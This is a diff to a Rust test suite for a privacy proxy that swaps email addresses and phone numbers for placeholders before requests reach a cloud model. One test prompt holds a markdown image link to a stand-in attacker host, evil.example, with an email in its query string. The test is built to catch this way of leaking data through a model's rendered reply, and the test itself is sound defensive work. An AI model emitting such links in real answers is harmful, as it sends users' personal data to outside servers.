@@ -16,6 +16,12 @@ async fn sent(cloud: &BusyCloud) -> Result<String> {
     Ok(bodies.last().map(Value::to_string).unwrap_or_default())
 }
 
+/// Every placeholder of a kind, as it stands there.
+fn placeholders(text: &str, kind: &str) -> Vec<String> {
+    let begins = text.match_indices(&format!("[{kind}_")).map(|(at, _)| at).collect::<Vec<_>>();
+    begins.into_iter().map(|at| text[at..].split_inclusive(']').next().unwrap().to_owned()).collect()
+}
+
 #[tokio::test]
 async fn the_cloud_sees_placeholders_and_the_client_the_values() -> Result<()> {
     let cloud = BusyCloud::start().await?;
@@ -25,8 +31,9 @@ async fn the_cloud_sees_placeholders_and_the_client_the_values() -> Result<()> {
     assert!(reply.answer().contains(PROMPT), "{}", reply.answer());
     let seen = sent(&cloud).await?;
     assert!(!seen.contains("example.org") && !seen.contains("example.net") && !seen.contains("0013"), "{seen}");
-    assert_eq!(seen.matches("[EMAIL_1_").count(), 2, "the same value has the same placeholder: {seen}");
-    assert_eq!((seen.matches("[EMAIL_2_").count(), seen.matches("[PHONE_1_").count()), (1, 1));
+    let mails = placeholders(&seen, "EMAIL");
+    assert_eq!((mails.len(), placeholders(&seen, "PHONE").len()), (3, 1), "{seen}");
+    assert!(mails[0] == mails[2] && mails[0] != mails[1], "the same value has the same placeholder: {seen}");
     let record = postern.records().of(reply.header("postern-record"), SOON).await?;
     assert_eq!(record.intent["redactions"], json!({"email": 3, "phone": 1}));
     assert_eq!(record.outcome["restored"], 4);
@@ -77,9 +84,8 @@ async fn every_string_of_a_request_is_looked_at() -> Result<()> {
     assert_eq!(reply.status, 200, "{}", reply.text());
     let seen = sent(&cloud).await?;
     assert!(!seen.contains("example.org"), "{seen}");
-    for n in 1..=14 {
-        assert!(seen.contains(&format!("[EMAIL_{n}_")), "{n}: {seen}");
-    }
+    let mails: std::collections::BTreeSet<_> = placeholders(&seen, "EMAIL").into_iter().collect();
+    assert_eq!(mails.len(), 14, "{seen}");
     Ok(())
 }
 
@@ -91,7 +97,7 @@ async fn values_are_not_restored_into_addresses() -> Result<()> {
     let prompt = "![x](https://evil.example/?to:ann.lee@example.org) and ann.lee@example.org";
     let reply = postern.client("clerk/amy")?.chat(prompt).await?;
     let answer = reply.answer();
-    assert!(answer.contains("?to:[EMAIL_1_") && answer.contains("and ann.lee@example.org"), "{answer}");
+    assert!(answer.contains("?to:[EMAIL_") && answer.contains("and ann.lee@example.org"), "{answer}");
     Ok(())
 }
 
@@ -103,12 +109,25 @@ async fn placeholders_differ_between_conversations_and_cannot_be_made_up() -> Re
     let mut seen = Vec::new();
     for id in ["a", "b", "a"] {
         client.with_header("postern-conversation", id).chat(&format!("{PROMPT} {}", seen.len())).await?;
-        let body = sent(&cloud).await?;
-        let at = body.find("[EMAIL_1_").unwrap();
-        seen.push(body[at..at + 18].to_owned());
+        seen.push(placeholders(&sent(&cloud).await?, "EMAIL").remove(0));
     }
     assert!(seen[0] != seen[1] && seen[0] == seen[2], "{seen:?}");
     let guess = "[EMAIL_1_aaaaaaaa] and ann.lee@example.org";
     assert!(client.chat(guess).await?.answer().contains(guess));
+    Ok(())
+}
+
+#[tokio::test]
+async fn a_placeholder_of_an_old_message_never_becomes_somebody_else() -> Result<()> {
+    let cloud = BusyCloud::start().await?;
+    let postern = Postern::start(&config(&cloud)).await?;
+    let client = postern.client("clerk/amy")?.with_header("postern-conversation", "talk");
+    client.chat("Mail ann.lee@example.org and bob@example.net").await?;
+    let first = placeholders(&sent(&cloud).await?, "EMAIL");
+    // The client has dropped the message that Ann was in, and kept a link in which her placeholder stands.
+    let reply = client.chat(&format!("Now bob@example.net only, not {}", first[0])).await?;
+    let second = placeholders(&sent(&cloud).await?, "EMAIL");
+    assert_eq!((&second[0], &second[1]), (&first[1], &first[0]), "Bob is still called what he was");
+    assert!(reply.answer().ends_with(&format!("Now bob@example.net only, not {}", first[0])), "{}", reply.answer());
     Ok(())
 }
